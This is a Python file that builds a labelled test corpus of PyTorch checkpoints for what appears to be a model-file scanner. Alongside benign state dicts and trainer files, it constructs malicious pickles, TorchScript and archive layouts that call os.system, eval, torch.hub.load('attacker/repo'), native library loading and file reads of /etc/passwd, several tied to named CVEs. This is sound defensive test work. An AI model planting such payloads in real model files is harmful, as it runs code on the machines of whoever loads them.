"""Torch checkpoints: state dicts, optimisers, trainers' files, whole modules, TorchScript, packages; and the bad ones."""

import datetime
import pickle
import struct
from argparse import Namespace
from collections import Counter, OrderedDict, defaultdict
from pathlib import PurePosixPath
from typing import Any

import numpy

import torch_layout
import zip_bytes
from cases import noise
from foreign import Calling, dumps, foreign_class, foreign_function, thing
from native import elf
from pickle_code import Code, build, call, const, name, payload, pickled, shell
from torch_layout import Storage, legacy_file, parameter, tensor, zip_file, zip_of_pickle
from zip_bytes import Member


def make(cases):
    family = cases.family("torch")
    state_dicts(family)
    training(family)
    whole_modules(family)
    checkpoints(family)
    torchscript(family)
    evil_pickles(family)
    evil_layouts(family)


# --- Benign ------------------------------------------------------------------------------------------------------------


def mlp(width=16, **more):
    rows = [("0.weight", (width, 8)), ("0.bias", (width,)), ("2.weight", (4, width)), ("2.bias", (4,))]
    return OrderedDict((key, tensor(*shape, seed=key, **more)) for key, shape in rows)


def bert_like(layers=2, wide=32):
    """Names and shapes of a small BERT."""
    rows = {"embeddings.word_embeddings.weight": (100, wide), "embeddings.position_embeddings.weight": (16, wide)}
    for layer in range(layers):
        at = f"encoder.layer.{layer}."
        for part in ("query", "key", "value"):
            rows[f"{at}attention.self.{part}.weight"] = (wide, wide)
            rows[f"{at}attention.self.{part}.bias"] = (wide,)
        rows[f"{at}intermediate.dense.weight"] = (4 * wide, wide)
        rows[f"{at}output.dense.weight"] = (wide, 4 * wide)
        rows[f"{at}output.LayerNorm.weight"] = (wide,)
    return OrderedDict((f"bert.{key}", tensor(*shape, seed=key)) for key, shape in rows.items())


def with_metadata(state):
    """nn.Module.state_dict() hangs `_metadata` on the ordered dict, so the pickle has a BUILD."""
    kind = OrderedDict
    state._metadata = kind([("", {"version": 1}), ("0", {"version": 1})])
    return state


def convolutional():
    rows = [
        ("conv1.weight", (8, 3, 3, 3)), ("bn1.weight", (8,)), ("bn1.bias", (8,)), ("bn1.running_mean", (8,)),
        ("bn1.running_var", (8,)), ("fc.weight", (10, 8)), ("fc.bias", (10,)),
    ]
    state = OrderedDict((key, tensor(*shape, seed=key)) for key, shape in rows)
    state["bn1.num_batches_tracked"] = tensor(kind="Long", data=struct.pack("<q", 100))
    return state


def tied():
    shared = Storage("Float", 100 * 16, 5)
    return OrderedDict(
        [("wte.weight", tensor(100, 16, storage=shared)), ("lm_head.weight", tensor(100, 16, storage=shared))]
    )


def quantised():
    rebuild = foreign_function("torch._utils", "_rebuild_qtensor")
    affine = foreign_function("torch", "per_tensor_affine")
    return OrderedDict(
        weight=Calling(rebuild, Storage("QInt8", 64, 1), 0, (8, 8), (8, 1), (affine, 0.02, 0), False, OrderedDict()),
        scale=0.02, zero_point=0,
    )


def sparse():
    rebuild = foreign_function("torch._utils", "_rebuild_sparse_tensor")
    layout = Calling(foreign_function("torch.serialization", "_get_layout"), "torch.sparse_coo")
    size = Calling(foreign_class("torch", "Size"), (4, 4))
    return {"adjacency": Calling(rebuild, layout, (tensor(2, 3, kind="Long"), tensor(3), size, True))}


def bfloat_v3():
    rebuild = foreign_function("torch._utils", "_rebuild_tensor_v3")
    kind = foreign_function("torch", "float8_e4m3fn")
    return {"q": Calling(rebuild, Storage("Byte", 64, 2), 0, (8, 8), (8, 1), False, OrderedDict(), kind)}


def state_dicts(family):
    rows = [
        ("mlp", "pytorch_model.bin", mlp(), "a small perceptron's state dict"),
        ("mlp-metadata", "model.pt", with_metadata(mlp()), "a state dict with `_metadata`, as nn.Module gives it"),
        ("bert", "pytorch_model.bin", bert_like(), "a small BERT's state dict"),
        ("resnet", "resnet.pth", convolutional(), "convolutions and batch norms with a counter of int64"),
        ("tied", "gpt2.bin", tied(), "two names over one storage"),
        ("quantised", "int8.pt", quantised(), "a quantised tensor"),
        ("sparse", "graph.pt", sparse(), "a sparse tensor with its layout"),
        ("float8", "fp8.pt", bfloat_v3(), "a tensor rebuilt with a dtype (v3)"),
        ("views", "views.pt", {"a": tensor(2, 4, storage=(one := Storage("Float", 16, 9)), offset=8), "b": tensor(8, storage=one)}, "two views of one storage with an offset"),
        ("parameters", "params.pt", OrderedDict(w=parameter(4, 4), b=parameter(4)), "parameters, not tensors"),
        ("bare-tensor", "embedding.pt", tensor(10, 8), "one tensor and nothing else"),
        ("list", "batch.pt", [tensor(2, 2), tensor(3), 7, "label", None], "a list of tensors and plain values"),
        ("empty", "empty.pt", OrderedDict(), "an empty state dict"),
        ("zero-sized", "zero.pt", {"lora_dropout": tensor(0), "rows": tensor(0, 8)}, "tensors without elements"),
        ("scalars", "scalars.pt", {"step": tensor(), "epoch": 3, "best": 0.91, "name": "run-1"}, "a tensor of no dimension beside numbers"),
        ("cuda-tags", "cuda.pt", OrderedDict(w=tensor(4, 4, location="cuda:0")), "storages tagged with a device"),
        ("meta-tensor", "meta.pt", {"w": Calling(foreign_function("torch._utils", "_rebuild_meta_tensor_no_storage"), foreign_function("torch", "float32"), (2, 2), (2, 1), False)}, "a tensor without a storage"),
        ("textual-inversion", "learned_embeds.bin", {"<cat-toy>": tensor(32, seed=4)}, "an embedding for one token"),
        ("buffers", "buffers.pt", {"inv_freq": Calling(foreign_function("torch._utils", "_rebuild_parameter_with_state"), tensor(8), False, OrderedDict(), {"note": "rope"})}, "a parameter with state of its own"),
        ("vocabulary", "vocab.pt", {"itos": ["<pad>", "a", "b"], "stoi": defaultdict(int, {"a": 1, "b": 2}), "freqs": Counter("abca")}, "a torchtext-like vocabulary"),
        ("backbone-nested", "nested.pth", {"model": convolutional(), "ema": convolutional(), "classes": {"cat", "dog"}, "size": (3, 32, 32)}, "two nested state dicts and plain facts"),
        ("looks-like-pickle", "constant.pt", {"w": tensor(64, data=payload(2).ljust(256, b"\0"))}, "weights whose bytes happen to look like a pickle: a storage is never unpickled"),
        ("looks-like-zip", "zipish.pt", {"w": tensor(64, data=b"PK\1\2PK\5\6PK\3\4\x80\x02cos\nsystem\n".ljust(256, b"\1"))}, "weights whose bytes hold zip signatures"),
    ]
    for case, file, value, note in rows:
        family.benign(f"state-{case}", file, zip_file(value, root=file.rsplit(".", 1)[0] if case == "bert" else "archive"), note)
    for kind in ("Half", "BFloat16", "Double", "Long", "Int", "Short", "Char", "Byte", "Bool", "ComplexFloat", "ComplexDouble"):
        family.benign(f"dtype-{kind.lower()}", "tensor.pt", zip_file({"x": tensor(3, 5, kind=kind)}), f"a state dict of {kind} storages")
    family.benign("before-alignment", "pytorch_model.bin", zip_file(bert_like(1), new=False), "the zip as torch 1.x wrote it, without the newer members")
    family.benign("old-protocol", "model.pth", zip_file(mlp(), protocol=4), "saved with pickle_protocol=4")
    family.benign("legacy-mlp", "model.pth", legacy_file(mlp()), "five pickles and storages, as before torch 1.6")
    family.benign("legacy-bert", "pytorch_model.bin", legacy_file(bert_like()), "a legacy checkpoint of many storages")
    family.benign("legacy-looks-like-pickle", "model.pth", legacy_file({"w": tensor(64, data=(payload(2) * 3).ljust(256, b"\0"))}), "legacy weights whose bytes look like pickles")
    family.benign("legacy-empty", "empty.pth", legacy_file(OrderedDict()), "a legacy file without storages")
    parts = {f"pytorch_model-0000{n}-of-00002.bin": zip_file(bert_like(n)) for n in (1, 2)}
    for file, data in parts.items():
        family.benign("sharded", file, data, "one of two shards")
    index = '{"metadata": {"total_size": 123456}, "weight_map": {"bert.embeddings.word_embeddings.weight": "pytorch_model-00001-of-00002.bin", "bert.encoder.layer.1.output.dense.weight": "pytorch_model-00002-of-00002.bin"}}\n'
    family.benign("sharded", "pytorch_model.bin.index.json", index, "the index of the shards")


def optimiser():
    state = {n: {"step": tensor(), "exp_avg": tensor(4, 4, seed=n), "exp_avg_sq": tensor(4, 4, seed=n + 9)} for n in range(3)}
    group = {"lr": 5e-5, "betas": (0.9, 0.999), "eps": 1e-8, "weight_decay": 0.01, "amsgrad": False, "foreach": None, "params": [0, 1, 2]}
    return {"state": state, "param_groups": [group]}


def rng_state():
    """What the transformers Trainer writes beside a checkpoint."""
    numpy_state = numpy.random.RandomState(3).get_state()
    python_state = (3, tuple(range(625)), None)
    return {"python": python_state, "numpy": numpy_state, "cpu": tensor(5056, kind="Byte"), "cuda": [tensor(16, kind="Byte")]}


def enum_of(module, name, value):
    return Calling(foreign_class(module, name), value)


def training_arguments():
    trainer = "transformers.trainer_utils"
    device = Calling(foreign_class("torch", "device"), "cuda", 0)
    state = thing("accelerate.state", "PartialState", _cpu=False, backend="nccl", device=device, num_processes=1,
                  distributed_type=enum_of("accelerate.utils.dataclasses", "DistributedType", "NO"))
    return thing(
        "transformers.training_args", "TrainingArguments", output_dir="out", do_train=True, learning_rate=2e-5,
        eval_strategy=enum_of(trainer, "IntervalStrategy", "epoch"), lr_scheduler_type=enum_of(trainer, "SchedulerType", "linear"),
        save_strategy=enum_of(trainer, "SaveStrategy", "steps"), hub_strategy=enum_of(trainer, "HubStrategy", "every_save"),
        optim=enum_of("transformers.training_args", "OptimizerNames", "adamw_torch"), fsdp=[], logging_dir="out/runs",
        accelerator_config=thing("transformers.trainer_pt_utils", "AcceleratorConfig", split_batches=False, even_batches=True),
        distributed_state=state, __cached__setup_devices=device, ddp_timeout=datetime.timedelta(seconds=1800), _n_gpu=1,
    )


def training(family):
    scheduler = {"base_lrs": [5e-5], "last_epoch": 500, "verbose": False, "_step_count": 501, "_last_lr": [1e-5], "lr_lambdas": [{}]}
    rows = [
        ("optimizer", "optimizer.pt", optimiser(), "Adam's state"),
        ("scheduler", "scheduler.pt", scheduler, "a scheduler's state"),
        ("rng-state", "rng_state.pth", rng_state(), "states of random generators, with numpy arrays"),
        ("training-args", "training_args.bin", training_arguments(), "the Trainer's arguments: enums, a device, accelerate's state"),
        ("scaler", "scaler.pt", {"scale": 65536.0, "growth_factor": 2.0, "_growth_tracker": 12}, "a gradient scaler's state"),
        ("seq2seq-args", "training_args.bin", thing("transformers.training_args_seq2seq", "Seq2SeqTrainingArguments", output_dir="out", predict_with_generate=True, generation_config=None), "arguments for sequence to sequence"),
        ("trl-args", "training_args.bin", thing("trl.trainer.sft_config", "SFTConfig", output_dir="out", packing=True, max_seq_length=2048), "arguments of an SFT run of trl"),
        ("ema", "ema.pt", {"decay": 0.999, "shadow": [tensor(4), tensor(4)], "num_updates": 77}, "moving averages"),
    ]
    for case, file, value, note in rows:
        family.benign(f"trainer-{case}", file, zip_file(value), note)
    state = {
        "state_dict_metadata": {"model.weight": thing("torch.distributed.checkpoint.metadata", "TensorStorageMetadata", size=Calling(foreign_class("torch", "Size"), (4, 4)), chunks=[thing("torch.distributed.checkpoint.metadata", "ChunkStorageMetadata", offsets=(0, 0), sizes=(4, 4))])},
        "storage_data": {thing("torch.distributed.checkpoint.metadata", "MetadataIndex", fqn="model.weight", index=0): thing("torch.distributed.checkpoint.filesystem", "_StorageInfo", relative_path="__0_0.distcp", offset=0, length=1234)},
        "planner_data": {"model.weight": ("model", "weight")},
    }
    family.benign("dcp", ".metadata", dumps(thing("torch.distributed.checkpoint.metadata", "Metadata", **state)), "metadata of a distributed checkpoint: a bare pickle without a name")
    family.benign("dcp", "__0_0.distcp", zip_file({"model.weight": tensor(4, 4)}), "a part of a distributed checkpoint")


def nn(module, name, **state):
    base = {"training": False, "_parameters": OrderedDict(), "_buffers": OrderedDict(), "_modules": OrderedDict(), "_backward_hooks": OrderedDict(), "_forward_hooks": OrderedDict(), "_is_full_backward_hook": None}
    base.update(state)
    return thing(module, name, **base)


def linear(inner, outer):
    return nn("torch.nn.modules.linear", "Linear", in_features=inner, out_features=outer, _parameters=OrderedDict(weight=parameter(outer, inner), bias=parameter(outer)))


def sequential():
    activation = nn("torch.nn.modules.activation", "ReLU", inplace=False)
    return nn("torch.nn.modules.container", "Sequential", _modules=OrderedDict([("0", linear(8, 16)), ("1", activation), ("2", linear(16, 4))]))


def detector():
    """The shape of an Ultralytics checkpoint: a whole module, its arguments and the date."""
    conv = nn("torch.nn.modules.conv", "Conv2d", in_channels=3, out_channels=8, kernel_size=(3, 3), stride=(2, 2), padding=(1, 1), _parameters=OrderedDict(weight=parameter(8, 3, 3, 3), bias=None))
    norm = nn("torch.nn.modules.batchnorm", "BatchNorm2d", num_features=8, eps=1e-3, momentum=0.03, _parameters=OrderedDict(weight=parameter(8), bias=parameter(8)))
    block = nn("ultralytics.nn.modules.conv", "Conv", _modules=OrderedDict(conv=conv, bn=norm, act=nn("torch.nn.modules.activation", "SiLU", inplace=True)))
    head = nn("ultralytics.nn.modules.head", "Detect", nc=80, nl=3, reg_max=16, stride=tensor(3))
    layers = nn("torch.nn.modules.container", "Sequential", _modules=OrderedDict([("0", block), ("1", head)]))
    arguments = thing("ultralytics.utils", "IterableSimpleNamespace", task="detect", imgsz=640, box=7.5)
    model = nn("ultralytics.nn.tasks", "DetectionModel", _modules=OrderedDict(model=layers), yaml={"nc": 80, "backbone": [[-1, 1, "Conv", [64, 3, 2]]]}, names={0: "person", 1: "bicycle"}, save=[4, 6], args=arguments)
    return {"date": "2024-01-10T10:31:48", "version": "8.1.0", "license": "AGPL-3.0", "epoch": -1, "best_fitness": None, "model": model, "ema": None, "updates": None, "optimizer": None, "train_args": {"task": "detect", "data": "coco.yaml", "epochs": 500}}


def whole_modules(family):
    family.benign("module-linear", "linear.pt", zip_file(linear(4, 2)), "a whole nn.Linear")
    family.benign("module-sequential", "model.pth", zip_file(sequential()), "a whole nn.Sequential")
    family.benign("module-sequential-legacy", "model.pth", legacy_file(sequential()), "a whole nn.Sequential in the legacy layout")
    family.benign("yolov8", "yolov8n.pt", zip_file(detector(), root="yolov8n"), "a detector as Ultralytics saves it: whole modules")
    family.suspicious("module-unknown", "model.pth", zip_file(nn("mynet.models", "MyNet", _modules=OrderedDict(fc=linear(4, 2)))), "a whole module of a package that nobody knows: loading imports it")
    family.suspicious("module-main", "model.pth", zip_file(nn("__main__", "Net", _modules=OrderedDict(fc=linear(4, 2)))), "a whole module whose class lived in somebody's script")


def checkpoints(family):
    attributes = foreign_class("pytorch_lightning.utilities.parsing", "AttributeDict", (dict,))
    hyper = attributes({"lr": 1e-3, "hidden": 64, "name": "net"})
    node = thing("omegaconf.nodes", "AnyNode", _val=3, _metadata=thing("omegaconf.base", "Metadata", ref_type=Any, object_type=None, optional=True, key="depth", flags={}))
    config = thing("omegaconf.dictconfig", "DictConfig", _content={"depth": node}, _parent=None, _metadata=thing("omegaconf.base", "ContainerMetadata", ref_type=Any, object_type=dict, optional=True, key=None, key_type=Any, element_type=Any, flags={}))
    listed = thing("omegaconf.listconfig", "ListConfig", _content=[node], _parent=None)
    base = {"epoch": 9, "global_step": 1000, "pytorch-lightning_version": "2.2.0", "state_dict": mlp(), "loops": {"fit_loop": {"state_dict": {}, "epoch_progress": {"total": {"ready": 10}}}}, "optimizer_states": [optimiser()], "lr_schedulers": []}
    callback = {"EarlyStopping{'monitor': 'val_loss', 'mode': 'min'}": {"wait_count": 0, "best_score": tensor(), "patience": 3}, "ModelCheckpoint{'monitor': 'val_loss'}": {"best_model_path": "out/epoch=9.ckpt", "dirpath": "out", "kth_best_model_path": ""}}
    rows = [
        ("lightning", "epoch=9-step=1000.ckpt", {**base, "hyper_parameters": hyper, "hparams_name": "kwargs", "callbacks": callback}, "a Lightning checkpoint with AttributeDict"),
        ("lightning-omegaconf", "last.ckpt", {**base, "hyper_parameters": {"model": config, "sizes": listed}}, "a Lightning checkpoint with OmegaConf nodes"),
        ("lightning-old-callback", "old.ckpt", {**base, "callbacks": {foreign_class("pytorch_lightning.callbacks.model_checkpoint", "ModelCheckpoint"): {"best_model_path": "a.ckpt"}}}, "callbacks keyed by their class, as Lightning 1.x did"),
        ("namespace", "checkpoint_best.pt", {"args": Namespace(arch="transformer", lr=[5e-4], save_dir="checkpoints"), "model": bert_like(1), "extra_state": {"epoch": 3}}, "a fairseq-like checkpoint with an argparse.Namespace"),
        ("stable-diffusion", "v1-5.ckpt", {"state_dict": OrderedDict((f"model.diffusion_model.input_blocks.{n}.0.weight", tensor(8, 4, 3, 3, kind="Half", seed=n)) for n in range(4)), "global_step": 840000, "epoch": 12}, "a diffusion checkpoint in half precision"),
        ("path", "run.pt", {"weights": mlp(), "config": PurePosixPath("configs/base.yaml"), "started": datetime.datetime(2024, 1, 2, 3, 4, 5)}, "a path and a date in a checkpoint"),
        ("numpy-inside", "norm.pt", {"mean": numpy.zeros(3), "std": numpy.float32(1.5), "w": tensor(3)}, "numpy arrays and scalars beside tensors"),
        ("detectron-pkl", "model_final.pth", {"model": convolutional(), "__author__": "zoo", "iteration": 89999}, "a Detectron-like checkpoint"),
        ("rwkv", "rwkv.pth", OrderedDict((f"blocks.{n}.att.key.weight", tensor(8, 8, kind="BFloat16", seed=n)) for n in range(6)), "an RWKV-like flat checkpoint"),
    ]
    for case, file, value, note in rows:
        family.benign(f"checkpoint-{case}", file, zip_file(value), note)
    family.benign("detectron-caffe2", "model_final.pkl", pickle.dumps({"blobs": {"conv1_w": numpy.zeros((2, 2), "f4")}}, 2), "Detectron's pickled blobs")


# --- TorchScript and packages ------------------------------------------------------------------------------------------

SCRIPT = """class Net(Module):
  __parameters__ = ["weight", "bias", ]
  __buffers__ = []
  weight : Tensor
  bias : Tensor
  training : bool
  _is_full_backward_hook : Optional[bool]
  def forward(self: __torch__.Net,
    x: Tensor) -> Tensor:
    weight = self.weight
    bias = self.bias
    %s
    return torch.relu(torch.linear(x, weight, bias))
"""


def script_parts(line='_0 = uninitialized(Tensor)', extra=()):
    """Members of a TorchScript archive around one line of code."""
    kind = foreign_class("__torch__", "Net")
    made = object.__new__(kind)
    made.__dict__.update(weight=tensor(4, 8, seed=1), bias=tensor(4, seed=2), training=False, _is_full_backward_hook=None)
    data, storages = torch_layout.module_pickle(made)
    code = [("code/__torch__.py", (SCRIPT % line).encode()), ("code/__torch__.py.debug_pkl", dumps(("FORMAT_WITH_STRING_TABLE", ("a.py", "b"), ((0, (0, 0, 3), 1),)))), ("constants.pkl", dumps(()))]
    return data, storages, code + list(extra)


def script(line="_0 = torch.size(x, 0)", extra=()):
    data, storages, code = script_parts(line, extra)
    return zip_of_pickle(data, storages, "net", code)


SCRIPT_ATTACKS = [
    ("from-file", 'torch.save(x, "/tmp/weighbridge")', "TorchScript that writes a file"),
    ("load-file", '_0 = torch.from_file("/etc/hostname", False, 16, dtype=0)', "TorchScript that reads a file into a tensor"),
    ("save-bytes", 'ops.aten.save(x, "/tmp/weighbridge")', "aten::save called as an operator"),
    ("from-file-op", '_0 = ops.aten.from_file("/etc/passwd", None, 64, 0, 0, None, None)', "aten::from_file called as an operator"),
    ("load-op", '_0 = ops.aten.load("/etc/passwd")', "aten::load called as an operator"),
]


def torchscript(family):
    family.benign("script-linear", "net.pt", script(), "TorchScript with operators of aten only")
    family.benign("script-control", "net.ts", script("if bool(torch.gt(torch.sum(x), 0)):\n      _1 = torch.neg(x)\n    else:\n      _1 = torch.abs(x)"), "TorchScript with a branch")
    family.benign("script-print", "traced.pth", script("print(torch.size(x))"), "TorchScript that prints")
    data, storages, code = script_parts("_0 = torch.mean(x)")
    lite = [("bytecode.pkl", dumps((8, ("__torch__.Net.forward", (("instructions", (("STOREN", 1, 2), ("RET", 0, 0))), ("operators", (("aten::relu", ""),)), ("constants", ()), ("types", ()), ("register_size", 3))))))]
    family.benign("script-lite", "mobile.ptl", zip_of_pickle(data, storages, "net", code + lite), "a lite-interpreter model with bytecode.pkl")
    family.suspicious("script-custom-op", "net.pt", script("_0 = ops.mycompany.fused_thing(x)"), "an operator of an unknown library")
    family.suspicious("script-class", "net.pt", script("_0 = __torch__.torch.classes.mycompany.Thing.__new__(__torch__.torch.classes.mycompany.Thing)"), "a class of an unknown library")
    for case, line, note in SCRIPT_ATTACKS:
        family.malicious(f"script-{case}", "net.pt", script(line), note)
    for member in ("bytecode.pkl", "constants.pkl"):
        files = [row for row in code if row[0] != member] + [(member, payload())]
        family.malicious(f"script-{member.split('.')[0]}", "net.pt", zip_of_pickle(data, storages, "net", files), f"a payload in {member} of a TorchScript archive")
    debug = [(key, payload() if key.endswith("debug_pkl") else value) for key, value in code]
    family.malicious("script-debug", "net.pt", zip_of_pickle(data, storages, "net", debug), "a payload in a debug pickle")
    family.malicious("pt2-library", "model.pt2", zip_of_pickle(data, storages, "net", [("data/aotinductor/model/cmodel.so", elf())]), "an AOTInductor package with a native library")
    extern = zip_bytes.plain({
        "pkg/.data/version": "6\n", "pkg/.data/extern_modules": "torch.nn\n", "pkg/mynet/__init__.py": "import os\n",
        "pkg/mynet/model.py": "class Net:\n    pass\n", "pkg/model/model.pkl": b"\x80\x03cmynet.model\nNet\n)\x81.",
    }, zip_bytes.STORED)
    family.suspicious("package", "model.pt", extern, "torch.package: the archive brings Python source which its pickle imports")
    evil = zip_bytes.plain({
        "pkg/.data/version": "6\n", "pkg/mynet/__init__.py": "import os\nos.system('echo weighbridge')\n",
        "pkg/model/model.pkl": b"\x80\x03cmynet\nNet\n)\x81.",
    }, zip_bytes.STORED)
    family.malicious("package-evil", "model.pt", evil, "torch.package whose source runs a command when imported")


# --- Bad ---------------------------------------------------------------------------------------------------------------


def storage_id(kind="FloatStorage", key="0", count=4, **swap):
    rows = {"tag": "storage", "kind": name("torch", kind), "key": key, "location": "cpu", "count": count, **swap}
    return Code(const(tuple(rows.values())) + b"Q")


def raw_tensor(identity=None, shape=(4,), stride=(1,), offset=0):
    hooks = call("collections", "OrderedDict")
    return call("torch._utils", "_rebuild_tensor_v2", identity or storage_id(), offset, shape, stride, False, hooks)


def evil_pickles(family):
    rows = [
        ("data-pkl", "pytorch_model.bin", pickled({"w": raw_tensor(), "x": shell()}), "malicious", "a command beside a real tensor"),
        ("hooks", "model.pt", pickled({"w": call("torch._utils", "_rebuild_tensor_v2", storage_id(), 0, (4,), (1,), False, shell())}), "malicious", "a command in the place of the backward hooks"),
        ("persistent-id", "model.pt", pickled({"w": raw_tensor(Code(const(("storage", shell(), "0", "cpu", 4)) + b"Q"))}), "malicious", "a command inside a persistent id"),
        ("load-from-bytes", "model.pt", pickled(call("torch.storage", "_load_from_bytes", payload())), "malicious", "a nested torch file as bytes with a payload"),
        ("hub-load", "model.pt", pickled(call("torch.hub", "load", "attacker/repo", "model")), "malicious", "torch.hub.load fetches and runs code"),
        ("load-library", "model.pt", pickled(call("torch.ops", "load_library", "/tmp/x.so")), "malicious", "loads a native library"),
        ("jit-load", "model.pt", pickled(call("torch.jit", "load", "http.pt")), "malicious", "loads another file through the JIT"),
        ("parse-type-line", "model.pt", pickled(call("torch.jit.annotations", "parse_type_line", "# type: (__import__('os').system('true')) -> int", None)), "malicious", "CVE-2022-45907: parse_type_line evaluates its text"),
        ("rpc", "model.pt", pickled(call("torch.distributed.rpc", "rpc_sync", "worker", name("os", "system"), ("echo",))), "malicious", "CVE-2024-5480: distributed.rpc runs a function elsewhere"),
        ("module-hook", "model.pt", pickled(build(call("torch.nn.modules.linear", "Linear", form="newobj"), {"_forward_hooks": {0: name("os", "system")}})), "malicious", "a forward hook that is os.system: runs at the first inference"),
        ("module-call-impl", "model.pt", pickled(build(call("torch.nn.modules.linear", "Linear", form="newobj"), {"forward": name("builtins", "eval")})), "malicious", "a module whose forward was replaced by eval"),
        ("setitem-tensor", "model.pt", pickled(Code(raw_tensor() + const("x") + const(1) + b"s")), "suspicious", "CVE-2026-24747: SETITEM on a tensor"),
        ("numel-lie", "model.pt", pickled({"w": raw_tensor(storage_id(count=1 << 40), (1 << 20, 1 << 20), (1 << 20, 1))}), "suspicious", "a storage which claims far more elements than it has"),
        ("stride-lie", "model.pt", pickled({"w": raw_tensor(storage_id(count=4), (4,), (1 << 30,), 1 << 20)}), "suspicious", "strides and offset that leave the storage"),
        ("storage-missing", "model.pt", pickled({"w": raw_tensor(storage_id(key="7"))}), "suspicious", "a storage whose member does not exist"),
        ("storage-traversal", "model.pt", pickled({"w": raw_tensor(storage_id(key="../data.pkl"))}), "suspicious", "a storage key that climbs out of data/"),
        ("pid-tag", "model.pt", pickled({"w": raw_tensor(storage_id(tag="module"))}), "suspicious", "a persistent id of the form that makes old loaders look at source code"),
        ("pid-text", "model.pt", pickled({"w": Code(b"Pstorage\n")}), "suspicious", "a persistent id that is a line of text"),
        ("getattr-chain", "model.pt", pickled(Code(call("builtins", "getattr", call("builtins", "getattr", name("torch", "serialization"), "os"), "system") + const(("echo",)) + b"R")), "malicious", "reaches os through torch.serialization by getattr"),
        ("dotted-hop", "model.pt", pickled(call("torch", "serialization.os.system", "echo", form="stack"), 4), "malicious", "reaches os through a dotted name below torch"),
        ("dynamo", "model.pt", pickled(call("torch._dynamo.guards", "GuardBuilder.get", "os.system('true')")), "malicious", "a guard builder which evaluates text"),
        ("collect-env", "model.pt", pickled(call("torch.utils.collect_env", "run", "echo")), "malicious", "collect_env.run runs a command"),
        ("bottleneck", "model.pt", pickled(call("torch.utils.bottleneck.__main__", "run_autograd_prof", "import os", {})), "malicious", "GHSA-4whj-rm5r-c2v8: bottleneck runs code"),
        ("cpp-extension", "model.pt", pickled(call("torch.utils.cpp_extension", "load_inline", "x", "int main(){}")), "malicious", "compiles and loads C++"),
        ("cycle", "loop.pt", pickled(Code(b"]q\0h\0a")), "benign", "a list which contains itself"),
    ]
    for case, file, data, expect, note in rows:
        family.labelled(expect, f"evil-{case}" if expect != "benign" else case, file, zip_of_pickle(data), note)
    args = pickled(build(call("transformers.training_args", "TrainingArguments", form="newobj"), {"output_dir": "out", "__setstate__": name("os", "system")}))
    family.malicious("evil-training-args", "training_args.bin", zip_of_pickle(args), "training arguments whose state plants __setstate__")


def evil_layouts(family):
    good, storages = torch_layout.module_pickle(mlp(), legacy=True)
    legacy = torch_layout.legacy_of_pickle
    sixth = legacy(good, storages, tail=payload())
    family.malicious("legacy-sixth", "model.pth", sixth, "a sixth pickle after the storages of a legacy file")
    magic = pickled(call("builtins", "eval", "0x1950a86a20f9469cfc6c"))
    family.malicious("legacy-magic-eval", "model.pth", legacy(good, storages, magic=magic), "GHSA-97f8-7cmv-76j2: the magic number is computed by eval")
    family.malicious("legacy-system-info", "model.pth", legacy(good, storages, system=pickled({"protocol_version": 1001, "little_endian": shell()})), "a command inside the third pickle, sys_info")
    family.malicious("legacy-object", "model.pth", legacy(pickled({"w": shell()}), {}), "a command in the fourth pickle")
    keys = legacy(good, {})[: -len(pickle.dumps([], 2))] + payload()
    family.malicious("legacy-keys", "model.pth", keys, "a command in the fifth pickle, the list of keys")
    family.suspicious("legacy-short", "model.pth", legacy_file(mlp())[:-40], "a legacy file whose last storage is cut")
    tar = torch_layout.tar_file()
    family.suspicious("tar-plain", "model.pth", tar, "the oldest layout, a tar, which torch still opens with everything allowed")
    family.malicious("tar-pickle", "model.pth", torch_layout.tar_file(payload()), "CVE-2025-32434: a payload in the old tar layout")
    family.malicious("tar-storages", "model.pt", torch_layout.tar_bytes([("sys_info", payload()), ("pickle", b"N."), ("storages", b""), ("tensors", b"")]), "a payload in sys_info of a tar")
    data, members = torch_layout.module_pickle(mlp())
    layouts = [
        ("second-data-pkl", [("sub/data.pkl", payload())], "malicious", "a second data.pkl deeper in the archive"),
        ("pickle-unlisted-extension", [("weights.p", payload())], "malicious", "CVE-2025-1889: a pickle under another extension in the archive"),
        ("pickle-no-extension", [("extra/readme", payload(4))], "malicious", "a pickle without an extension in the archive"),
        ("protocol-zero", [("notes.txt", payload(0))], "malicious", "a pickle of protocol 0 called notes.txt in the archive"),
        ("native-member", [("data/zz.so", elf())], "malicious", "a native library among the storages"),
        ("python-member", [("code/setup.py", b"import os\nos.system('echo weighbridge')\n")], "malicious", "Python source in the archive that runs a command"),
    ]
    for case, extra, expect, note in layouts:
        family.labelled(expect, f"member-{case}", "model.pt", zip_of_pickle(data, members, extra=extra), note)
    upper = torch_layout.zip_members(data, members) + [Member("archive/DATA.PKL", payload())]
    family.malicious("member-case-fold", "model.pt", zip_bytes.archive(upper), "a second data.pkl that differs only in case: torch's reader ignores case")
    first = [Member("archive/Data.pkl", payload())] + torch_layout.zip_members(data, members)
    family.malicious("member-case-first", "model.pt", zip_bytes.archive(first), "the evil spelling comes first")
    family.suspicious("storage-short", "model.pt", zip_of_pickle(data, {key: b"\0" for key in members}), "storages shorter than their tensors")
    family.malicious("executorch-zip", "model.pte", b"\x1c\0\0\0ET12" + bytes(24) + zip_of_pickle(payload()), "an ExecuTorch head with a torch zip behind it")
    family.benign("executorch", "model.pte", executorch(), "a minimal ExecuTorch program", complete=False)


def executorch():
    import flatbuffers

    builder = flatbuffers.Builder(64)
    builder.StartObject(2)
    builder.PrependUint32Slot(0, 1, 0)
    builder.Finish(builder.EndObject(), b"ET12")
    return bytes(builder.Output()) + noise(64, "et")
